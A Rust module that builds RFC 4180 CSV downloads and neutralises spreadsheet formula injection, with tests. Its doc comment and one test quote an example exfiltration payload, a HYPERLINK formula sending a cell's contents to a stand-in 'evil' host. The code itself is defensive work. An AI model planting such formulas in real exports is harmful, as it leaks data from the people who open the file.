//! CSV files for download: RFC 4180 (comma-separated, CRLF line ends, a field
//! with a comma, quote, CR or LF inside double quotes, quotes doubled), UTF-8
//! with a header row, served as an attachment.
//!
//! # Security
//! A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` as a
//! formula, and some also act on a leading tab or carriage return; a ticket
//! title like `=HYPERLINK("http://evil/?"&A1)` would run when the file is
//! opened. Such a text cell is prefixed with `'` (OWASP's "CSV injection"
//! advice), which spreadsheets show as text. Numbers are written as numbers,
//! so a negative figure stays a number.

use crate::http::{Response, Status};

/// One cell: text from people (neutralised), or a number.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Int(i64),
    Float(f64),
    Empty,
}

impl From<&str> for Cell {
    fn from(s: &str) -> Cell {
        Cell::Text(s.to_string())
    }
}

impl From<String> for Cell {
    fn from(s: String) -> Cell {
        Cell::Text(s)
    }
}

impl From<i64> for Cell {
    fn from(n: i64) -> Cell {
        Cell::Int(n)
    }
}

impl<T: Into<Cell>> From<Option<T>> for Cell {
    fn from(v: Option<T>) -> Cell {
        v.map_or(Cell::Empty, Into::into)
    }
}

/// A CSV document being written, header first.
pub struct Csv {
    out: String,
}

impl Csv {
    pub fn new(header: &[&str]) -> Csv {
        let mut csv = Csv { out: String::new() };
        csv.row(header.iter().map(|h| Cell::from(*h)));
        csv
    }

    pub fn row(&mut self, cells: impl IntoIterator<Item = Cell>) {
        for (i, cell) in cells.into_iter().enumerate() {
            if i > 0 {
                self.out.push(',');
            }
            match cell {
                Cell::Text(s) => push_text(&mut self.out, &s),
                Cell::Int(n) => self.out.push_str(&n.to_string()),
                Cell::Float(f) if f.is_finite() => self.out.push_str(&f.to_string()),
                Cell::Float(_) | Cell::Empty => {}
            }
        }
        self.out.push_str("\r\n");
    }

    pub fn into_string(self) -> String {
        self.out
    }

    /// `200 text/csv; charset=utf-8` with `Content-Disposition: attachment`.
    /// `filename` is ours (letters, digits, `-`, `_`, `.`), never user text.
    pub fn into_response(self, filename: &str) -> Response {
        Response::bytes(Status::OK, "text/csv; charset=utf-8", self.out.into_bytes()).with_header(
            "Content-Disposition",
            format!("attachment; filename=\"{filename}\""),
        )
    }
}

/// Text cells that a spreadsheet would run as a formula start with one of these.
fn is_formula_start(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

fn push_text(out: &mut String, s: &str) {
    let guard = s.chars().next().is_some_and(is_formula_start);
    let quote = guard || s.contains([',', '"', '\r', '\n']);
    if quote {
        out.push('"');
    }
    if guard {
        out.push('\'');
    }
    for c in s.chars() {
        if c == '"' {
            out.push('"');
        }
        out.push(c);
    }
    if quote {
        out.push('"');
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(cell: Cell) -> String {
        let mut csv = Csv { out: String::new() };
        csv.row([cell]);
        csv.into_string().trim_end_matches("\r\n").to_string()
    }

    #[test]
    fn plain_text_and_numbers_are_written_as_they_are() {
        assert_eq!(one("Printer jam".into()), "Printer jam");
        assert_eq!(one(Cell::Int(-3)), "-3");
        assert_eq!(one(Cell::Float(0.25)), "0.25");
        assert_eq!(one(Cell::Empty), "");
        assert_eq!(one("Grüße, 東京".into()), "\"Grüße, 東京\"");
    }

    #[test]
    fn quotes_are_doubled_and_fields_with_separators_are_quoted() {
        assert_eq!(one("say \"hi\"".into()), "\"say \"\"hi\"\"\"");
        assert_eq!(one("a\r\nb".into()), "\"a\r\nb\"");
        assert_eq!(one("a,b".into()), "\"a,b\"");
    }

    #[test]
    fn formula_starts_are_neutralised() {
        assert_eq!(one("=1+1".into()), "\"'=1+1\"");
        assert_eq!(one("+1".into()), "\"'+1\"");
        assert_eq!(one("-1".into()), "\"'-1\"");
        assert_eq!(one("@SUM(A1)".into()), "\"'@SUM(A1)\"");
        assert_eq!(one("\tx".into()), "\"'\tx\"");
        assert_eq!(one("\rx".into()), "\"'\rx\"");
        assert_eq!(
            one("=HYPERLINK(\"http://x/?\"&A1)".into()),
            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\""
        );
        // Only the start matters.
        assert_eq!(one("a=b".into()), "a=b");
    }

    #[test]
    fn rows_end_with_crlf_after_a_header() {
        let mut csv = Csv::new(&["date", "created"]);
        csv.row([Cell::from("2026-11-01"), Cell::Int(3)]);
        assert_eq!(csv.into_string(), "date,created\r\n2026-11-01,3\r\n");
    }
}
